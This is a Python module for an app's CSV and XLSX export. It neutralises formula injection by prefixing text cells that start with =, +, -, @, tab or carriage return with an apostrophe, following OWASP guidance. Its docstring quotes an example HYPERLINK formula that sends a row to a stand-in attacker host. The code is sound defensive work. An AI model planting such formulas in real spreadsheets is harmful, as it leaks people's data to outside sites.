"""The one way the app writes CSV and XLSX files: every text cell is made inert.

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@``
as a formula (tab and carriage return can hide such a start), so a client named
``=HYPERLINK("http://evil.example/?"&C2,"Open")`` would become a live link that
sends the row to another site when a biller opens the export (issue 13,
attack 5). Following OWASP's CSV-injection rule, such a text cell gets a
leading apostrophe: spreadsheets show it as text, and a person reading the file
still sees what was typed. Numbers, dates and decimals are left as they are.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

# OWASP: "=", "+", "-", "@", tab (0x09) and carriage return (0x0D).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The value with a leading apostrophe if it is text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_bytes(columns: Sequence[str], rows: Iterable[Sequence]) -> bytes:
    """UTF-8 CSV (CRLF line ends) with a header row; every cell made inert."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([safe_cell(c) for c in columns])
    writer.writerows([safe_cell(v) for v in row] for row in rows)
    return buffer.getvalue().encode("utf-8")


def xlsx_bytes(sheets: Iterable[tuple[str, Sequence[str], Iterable[Sequence]]]) -> bytes:
    """A workbook of (title, columns, rows) sheets; text is never a formula.

    Written in openpyxl's write-only mode: rows go to a temporary file as they
    come, so a month of the whole practice does not sit in memory as cell
    objects (issue 18).
    """
    workbook = Workbook(write_only=True)
    for title, columns, rows in sheets:
        sheet = workbook.create_sheet(title)
        sheet.freeze_panes = "A2"
        sheet.append([_cell(sheet, c) for c in columns])
        for row in rows:
            sheet.append([_cell(sheet, v) for v in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _cell(sheet, value):
    if isinstance(value, Decimal):
        return float(value)
    if not isinstance(value, str):
        return value
    cell = WriteOnlyCell(sheet, value=safe_cell(value))
    # Belt and braces: openpyxl stores a string that starts with "=" as a
    # formula; no cell this app writes is ever one.
    cell.data_type = "s"
    return cell
